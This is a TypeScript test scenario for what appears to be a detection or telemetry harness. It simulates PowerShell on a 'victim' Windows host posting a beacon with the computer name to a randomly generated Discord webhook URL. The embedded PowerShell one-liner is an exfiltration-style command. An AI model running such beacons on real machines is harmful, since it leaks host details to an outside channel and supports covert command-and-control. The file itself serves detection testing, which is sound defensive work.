/**
 * Seed test 4: PowerShell posts to a Discord webhook. The webhook answers 401/404, but the
 * DNS query and the connection to discord.com on 443 happen first and are logged.
 */

import { CONHOST, POWERSHELL, powershellCommand, type Scenario } from './scenario.js';

const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

export const discordWebhook: Scenario = {
  id: 'discord-webhook',
  title: 'PowerShell posting to a Discord webhook (answered 401/404)',
  platform: 'windows',
  origin: 'seed test 4',
  expect: { fileName: 'powershell.exe', host: 'discord.com' },
  build(w, fleet, t) {
    const base = fleet.windows.get(fleet.victim)!;
    const hook = `${w.rng.int(1e17, 9e17)}/${w.rng.token(68, BASE64URL)}`;
    const script =
      `$b = @{content = 'beacon ' + $env:COMPUTERNAME} | ConvertTo-Json; ` +
      `Invoke-RestMethod -Uri 'https://discord.com/api/webhooks/${hook}' -Method Post -Body $b -ContentType 'application/json'`;
    const ps = w.spawn(t, base.explorer, POWERSHELL, powershellCommand(script));
    w.spawn(t + 9, ps, CONHOST, `${CONHOST} 0xffffffff -ForceV1`);
    w.reach(t + 540, ps, 'discord.com');
  },
};
